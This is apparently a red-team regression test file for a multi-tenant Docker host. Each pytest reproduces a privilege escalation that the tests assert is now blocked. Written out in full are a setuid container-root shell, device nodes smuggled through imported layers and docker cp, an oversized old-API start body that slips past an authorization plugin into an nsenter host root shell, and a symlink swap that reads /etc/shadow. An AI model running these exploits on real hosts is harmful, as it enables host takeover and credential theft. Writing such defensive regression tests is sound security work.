"""Outside review (red team): each test is one finding, as the tenant would do it over SSH.
Each fails on the code it was written against; the docstring says what it shows."""

from __future__ import annotations

import io
import tarfile

import pytest

from tests import testimage
from tests.lab import host
from tests.sandbox.conftest import container_root

IMAGE = testimage.IMAGE


@pytest.fixture(scope="module")
def alice(lab: host.Lab, tenants: tuple[str, ...]) -> str:
    return "alice"


def _setuid_container_root_shell(lab: host.Lab, directory: str) -> str:
    """A copy of dash in `directory` of alice's home, given to container root and made
    set-user-ID and set-group-ID by a container that binds the directory. No world-writable
    directory needed: container root may chown what alice owns (its map keeps her uid)."""
    lab.ssh("alice", f"rm -rf ~/{directory}; mkdir ~/{directory} && cp /bin/dash ~/{directory}/sh")
    lab.ssh("alice", f"docker run --rm -v ~/{directory}:/w {IMAGE} "
            "sh -c 'chown 0:0 /w/sh && chmod 6755 /w/sh'", check=False)  # fmt: skip
    return f"~/{directory}/sh -p -c"


def test_running_as_container_root_on_the_host_reaches_nothing(lab: host.Lab, alice: str) -> None:
    """Container root writes a set-user-ID (and set-group-ID) file into a bind of alice's
    home; alice runs it on the host and is `_dtenantN` there, with its group. Found: then
    everything Docker hands container root was hers: the layer directories (a device node
    from `docker import` opened from the host: /dev/kmsg written, a disk would be as easy),
    and the fifo directory of every container (`init-stdout` planted as a symlink makes
    dockerd read /etc/shadow into `docker logs`). Now those directories lie below
    directories that are root's alone on the host."""
    root = container_root(lab, "alice")
    shell = _setuid_container_root_shell(lab, "suid")
    try:
        ids = lab.ssh("alice", f"{shell} 'id -u'", check=False).stdout.split()
        assert ids == [str(root)]  # the premise: she runs as container root (residual)
        for place in (f"/run/dtenant/tenants/alice.{root}.{root}",
                      f"/var/lib/dtenant/tenants/alice/docker/{root}.{root}/overlay2",
                      "/run/dtenant/tenants/alice/exec"):  # fmt: skip
            reach = lab.ssh("alice", f"{shell} 'ls {place}/'", check=False)
            assert reach.returncode != 0, f"container root lists {place}: {reach.stdout}"
    finally:
        lab.ssh("alice", "rm -rf ~/suid", check=False)


def _nodes_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("dev/null2")
        info.type, info.devmajor, info.devminor, info.mode = tarfile.CHRTYPE, 1, 3, 0o666
        tar.addfile(info)
    return buffer.getvalue()


def test_a_layer_device_node_is_never_reachable_through_container_root(
    lab: host.Lab, alice: str
) -> None:
    """The same root cause, shown on what it leads to: a device node of an imported layer
    (here a harmless copy of /dev/null) opened from the host by alice."""
    lab.ssh("alice", "docker import - rtnodes:latest", input=_nodes_tar())
    shell = _setuid_container_root_shell(lab, "suid2")
    try:
        upper = lab.ssh(
            "alice", "docker image inspect rtnodes --format '{{.GraphDriver.Data.UpperDir}}'"
        ).stdout.strip()
        opened = lab.ssh("alice", f"{shell} 'echo x > {upper}/dev/null2 && echo opened'",
                         check=False)  # fmt: skip
        assert "opened" not in opened.stdout, f"alice opened {upper}/dev/null2 from the host"
    finally:
        lab.ssh("alice", "rm -rf ~/suid2; docker rmi rtnodes", check=False)


# A host config at start, the way API versions before 1.24 send it; padded past the 1 MiB
# Docker shows an authorization plugin, so the plugin sees no body and lets it through.
_START_WITH_HOST_CONFIG = r"""
import json, os, socket, sys
host_config = {"UsernsMode": "host", "PidMode": "host", "CapAdd": ["SYS_ADMIN", "SYS_PTRACE"],
               "SecurityOpt": ["seccomp=unconfined", "apparmor=unconfined"],
               "Dns": ["192.0.2.1"] * 200000}
body = json.dumps(host_config).encode()
head = (f"POST /v1.23/containers/{sys.argv[1]}/start HTTP/1.1\r\nHost: docker\r\n"
        "Content-Type: application/json\r\nConnection: close\r\n"
        f"Content-Length: {len(body)}\r\n\r\n").encode()
with socket.socket(socket.AF_UNIX) as connection:
    connection.connect(f"/run/docker-{os.environ['USER']}.sock")
    try:
        connection.sendall(head + body)
    except (BrokenPipeError, ConnectionResetError):
        pass  # refused before the body was read: the answer is still there to read
    reply = b""
    try:
        while chunk := connection.recv(65536):
            reply += chunk
    except ConnectionResetError:
        pass
print(reply.split(b"\r\n", 1)[0].decode())
"""


def test_an_old_api_start_cannot_bring_a_host_config_past_the_plugin(
    lab: host.Lab, alice: str
) -> None:
    """POST /v1.23/containers/ID/start with a HostConfig body over 1 MiB: Docker hands the
    plugin no body (too large), the plugin's start check only looks at a body it sees, and
    dockerd applies the host config: --userns=host --pid=host --cap-add SYS_ADMIN,
    seccomp off; `nsenter -t 1 -m` is then a root shell on the host."""
    marker = "/root/rt-old-api-start"
    lab.run(["rm", "-f", marker])
    lab.ssh("alice", f"docker rm -f oldstart >/dev/null 2>&1; "
            f"docker create --name oldstart {IMAGE} sleep 300 >/dev/null")  # fmt: skip
    try:
        status = lab.ssh("alice", "python3 - oldstart", input=_START_WITH_HOST_CONFIG).stdout
        lab.ssh("alice", f"docker exec oldstart nsenter -t 1 -m sh -c 'touch {marker}'",
                check=False)  # fmt: skip
        mode = lab.ssh("alice", "docker inspect -f '{{.HostConfig.UsernsMode}}' oldstart",
                       check=False).stdout.strip()  # fmt: skip
        assert lab.run(["test", "-e", marker], check=False).returncode == 1, "root on the host"
        assert mode != "host", f"the start was allowed ({status.strip()}): --userns=host"
        assert " 403 " in status, status
    finally:
        lab.run(["rm", "-f", marker])
        lab.ssh("alice", "docker rm -f oldstart", check=False)


def test_docker_cp_cannot_read_through_binds_inherited_with_volumes_from(
    lab: host.Lab, alice: str
) -> None:
    """`docker cp` is denied for a container with binds, judged by its own HostConfig; a
    container made with `--volumes-from` has the binds in its mount points, not in its
    HostConfig. Swap the bind's source for a symlink to /etc, and the daemon mounts it as
    root for `docker cp`: /etc/shadow comes back. The start check misses them too."""
    lab.ssh("alice", "docker rm -f vfa vfb >/dev/null 2>&1; rm -rf ~/vf; mkdir ~/vf; "
            f"docker create --name vfa -v ~/vf:/x {IMAGE} true >/dev/null && "
            f"docker create --name vfb --volumes-from vfa {IMAGE} sleep 300 >/dev/null && "
            "rm -rf ~/vf && ln -s /etc ~/vf")  # fmt: skip
    try:
        copied = lab.ssh("alice", "docker cp vfb:/x/shadow - | tar -xO", check=False)
        assert "root:" not in copied.stdout, "docker cp read /etc/shadow as root"
        started = lab.ssh("alice", "docker start vfb && docker exec vfb head -1 /x/passwd",
                          check=False)  # fmt: skip
        assert "root:" not in started.stdout, "a start mounted /etc through --volumes-from"
    finally:
        lab.ssh("alice", "docker rm -f vfa vfb; rm -f ~/vf", check=False)


def test_docker_cp_never_makes_a_device_node_in_the_users_home(lab: host.Lab, alice: str) -> None:
    """No swap, no race: a container made with `--volumes-from` a container that binds
    ~/nd passes the `docker cp` check (its HostConfig has no binds); `docker cp` of a tar
    holding a device node makes the daemon (root, outside any user namespace) mknod it in
    ~/nd, mode 0666. From the host alice opens it: any disk, /dev/kmsg, /dev/mem (here a
    harmless copy of /dev/null, c 1:3)."""
    lab.ssh("alice", "docker rm -f nda ndb >/dev/null 2>&1; rm -rf ~/nd; mkdir ~/nd; "
            f"docker create --name nda -v ~/nd:/x {IMAGE} true >/dev/null && "
            f"docker create --name ndb --volumes-from nda {IMAGE} true >/dev/null")  # fmt: skip
    try:
        lab.ssh("alice", "docker cp - ndb:/x", input=_nodes_tar(), check=False)
        nodes = lab.run(["find", "/home/alice/nd", "-type", "c", "-printf", "%p %m\n"]).stdout
        assert nodes.strip() == "", f"the daemon made a device node in alice's home: {nodes}"
    finally:
        lab.ssh("alice", "docker rm -f nda ndb; rm -rf ~/nd", check=False)
